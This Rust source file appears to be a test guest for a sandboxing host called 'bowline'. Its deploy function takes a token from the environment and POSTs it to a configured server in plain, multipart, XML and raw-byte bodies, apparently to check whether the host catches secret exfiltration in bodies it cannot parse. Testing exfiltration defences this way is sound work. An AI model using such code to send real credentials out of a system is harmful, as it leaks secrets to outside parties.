//! Sends a secret home, in bodies where the host can't tell how it has to be written.

use bowline_guests::prelude::*;

target!(deploy, server_url(), token());

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let (server, token) = (value(env, "server-url")?, value(env, "token")?);
    let outcomes = [
        post(&server, "text/plain", &token),
        post(
            &server,
            "multipart/form-data; boundary=x",
            &format!("--x\r\n\r\n{token}\r\n--x--"),
        ),
        post(&server, "application/xml", &format!("<t>{token}</t>")),
        send("POST", &server, &[], &[token.as_bytes()]),
    ];
    let done = outcomes.iter().filter(|outcome| outcome.is_ok()).count();
    match done {
        0 => Err(Failure::Unexpected("nothing was sent".into())),
        _ => Ok(seen(app, format!("{done} sent"))),
    }
}
